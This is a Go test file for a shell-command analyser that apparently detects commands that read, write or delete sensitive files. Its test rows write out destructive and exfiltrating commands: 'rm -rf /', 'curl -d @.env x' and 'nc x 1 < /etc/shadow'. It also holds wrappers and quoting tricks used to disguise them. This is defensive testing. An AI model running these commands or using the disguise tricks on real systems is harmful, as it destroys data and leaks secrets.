package fileuse

import (
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"

	"github.com/weir-gate/weir/internal/text/shell"
	"github.com/weir-gate/weir/internal/text/truth"
	"github.com/weir-gate/weir/internal/weirtest/need"
)

// harmless are ways to run a text together with what does nothing to files: %s is the text, %q the text quoted.
var harmless = []string{
	"%s", "ls; %s", "%s; ls", "ls && %s", "ls || %s", "( %s )", "{ %s; }", "! { %s; }", "if ls; then %s; fi", "while ls; do %s; done",
	"for i in a b; do %s; done", "f() { %s; }; f", "case a in a) %s;; esac", "echo $( %s )", "x=$( %s )", "cat <( %s )", "ls | { %s; }",
	"(cd /srv; ls); %s", "cd . && %s", "pushd /srv; popd; %s", "X=1; %s", "eval %q", "sh -c %q", "bash -lc %q", "sudo sh -c %q", "timeout 5 bash -c %q",
	"env A=b sh -c %q", "nohup sh -c %q", "printf %%s %q | sh", "bash <<< %q", "time sh -c %q", "find . -exec sh -c %q \\;", "{ %s; } > /dev/null 2>&1", "{ %s & }",
}

func wrapped(t testing.TB, with, text string) string {
	if !strings.Contains(with, "%q") {
		return strings.ReplaceAll(with, "%s", text)
	}
	quoted, err := syntax.Quote(text, syntax.LangBash)
	if err != nil {
		t.Fatal(err)
	}
	return strings.ReplaceAll(strings.ReplaceAll(with, "%%s", "%s"), "%q", quoted)
}

// certain are rows whose commands stand on one line and are all there is to them.
func certain() []row {
	return []row{
		{"removes", "/", "rm -rf /"},
		{"removes", "/", "cd / && rm -rf *"},
		{"removes", "~", `rm -rf "$HOME"`},
		{"removes", "~", "cd; rm -rf ."},
		{"removes", "~", "find ~ -delete"},
		{"reads", "~/.ssh/id_*", "cd ~/.ssh && cat id_rsa"},
		{"reads", ".env", "curl -d @.env x"},
		{"reads", "/etc/shadow", "nc x 1 < /etc/shadow"},
		{"writes", "/etc/**", "echo x > /etc/hosts"},
		{"writes", "/etc/**", "tee -a /etc/hosts"},
		{"writes", "~/.bashrc", "cp x ~/.bashrc"},
		{"writes", "/etc/**", "sed -i s/a/b/ /etc/x"},
	}
}

func TestHarmlessCommandsHideNothing(t *testing.T) {
	random := rand.New(rand.NewPCG(1, 2))
	for _, r := range certain() {
		for range 150 {
			text := r.command
			for range 1 + random.IntN(3) {
				text = wrapped(t, harmless[random.IntN(len(harmless))], text)
			}
			if got := answer(t, row{r.deed, r.pattern, text}); got == No {
				t.Errorf("%s %s: not found in %q: %s", r.deed, r.pattern, text, describe(text))
			}
		}
	}
}

func TestHarmlessCommandsAddNothing(t *testing.T) {
	random := rand.New(rand.NewPCG(3, 4))
	for _, command := range []string{"ls -la ~/.ssh", "echo 'rm -rf /'", "rm -rf build", "cat README.md > out", "cd src && rm -rf *", `rm -rf "$X"`} {
		for range 100 {
			text := command
			for range 1 + random.IntN(3) {
				text = wrapped(t, harmless[random.IntN(len(harmless))], text)
			}
			for _, r := range certain() {
				if got := answer(t, row{r.deed, r.pattern, text}); got != No {
					t.Errorf("%s %s: answer %d for %q: %s", r.deed, r.pattern, got, text, describe(text))
				}
			}
		}
	}
}

// disguised writes a word in ways that a shell reads as that word, as the bytes of how say.
func disguised(word string, how []byte) string {
	var out strings.Builder
	for i, c := range word {
		letter, b := string(c), byte(0)
		if i < len(how) {
			b = how[i]
		}
		switch {
		case b%6 == 1 && c != '\n':
			out.WriteString(`\` + letter)
		case b%6 == 2:
			out.WriteString(`'` + letter + `'`)
		case b%6 == 3:
			out.WriteString(`"` + letter + `"`)
		case b%6 == 4:
			out.WriteString(`""` + letter)
		case b%6 == 5:
			out.WriteString("$(echo " + letter + ")")
		default:
			out.WriteString(letter)
		}
	}
	return out.String()
}

func FuzzDisguise(f *testing.F) {
	f.Add([]byte{0, 1, 2, 3, 4, 5}, []byte{1, 2, 3})
	f.Add([]byte{5, 5, 5}, []byte{2, 2, 2, 2, 2, 2})
	f.Fuzz(func(t *testing.T, program, file []byte) {
		text := disguised("cat", program) + " " + disguised("/etc/../etc/./shadow", file)
		if got := answer(t, row{"reads", "/etc/shadow", text}); got != Yes {
			t.Errorf("answer %d for %q: %s", got, text, describe(text))
		}
	})
}

func FuzzFind(f *testing.F) {
	for _, file := range []string{"testdata/touched.txt", "testdata/untouched.txt"} {
		for _, r := range need.Seeds(rows(f, file)) {
			f.Add(r.pattern, r.command)
		}
	}
	f.Fuzz(func(t *testing.T, pattern, text string) {
		places, err := NewPlaces([]string{pattern})
		if err != nil || len(text) > 4096 || len(pattern) > 256 {
			t.Skip()
		}
		uses := Find(shell.Read(text, shell.Start{}))
		if len(uses) > maxUses+2 {
			t.Fatalf("%d uses", len(uses))
		}
		places.In(text)
		writes := places.Touched(uses, Writes)
		removes := places.Touched(uses, Removes)
		if best(removes) == Yes && best(writes) != Yes {
			t.Errorf("%q removes %q, but does not write it", text, pattern)
		}
		// What follows a command does not hide it.
		if got := answer(t, row{"reads", "/etc/shadow", "cat /etc/shadow\n" + text}); got == No {
			t.Errorf("%q hides the line in front of it", text)
		}
	})
}

func best(answers []truth.Value) truth.Value {
	out := No
	for _, a := range answers {
		out = max(out, a)
	}
	return out
}

func BenchmarkFind(b *testing.B) {
	unit := "cd /srv/app && git status --short | head -n 20; for f in *.go; do gofmt -l \"$f\"; done; cp -r a/b ~/c; rm -rf build/*\n"
	for _, size := range []struct {
		name  string
		bytes int
	}{{"100B", 100}, {"10KB", 10 << 10}, {"1MB", 1 << 20}} {
		commands := shell.Read(strings.Repeat(unit, max(1, size.bytes/len(unit))), shell.Start{})
		places, err := NewPlaces([]string{"/", "/*", "~", "/etc/**", ".ssh/id_*[!b]", ".env", "*.pem"})
		if err != nil {
			b.Fatal(err)
		}
		b.Run(size.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				places.Touched(Find(commands), Writes)
			}
		})
	}
}

// Many different uses and many places.
func BenchmarkTouched(b *testing.B) {
	var text strings.Builder
	text.WriteString("cat")
	for i := range maxUses {
		text.WriteString(" src/pkg/file" + strconv.Itoa(i) + ".go /srv/x/" + strconv.Itoa(i))
	}
	uses := Find(shell.Read(text.String(), shell.Start{}))
	var patterns []string
	for i := range 25 {
		patterns = append(patterns, "/etc/x"+strconv.Itoa(i), "~/.x"+strconv.Itoa(i)+"/**", ".y"+strconv.Itoa(i)+"/id_*[!b]", "*.pem"+strconv.Itoa(i))
	}
	places, err := NewPlaces(patterns)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		places.Touched(uses, Reads)
	}
}
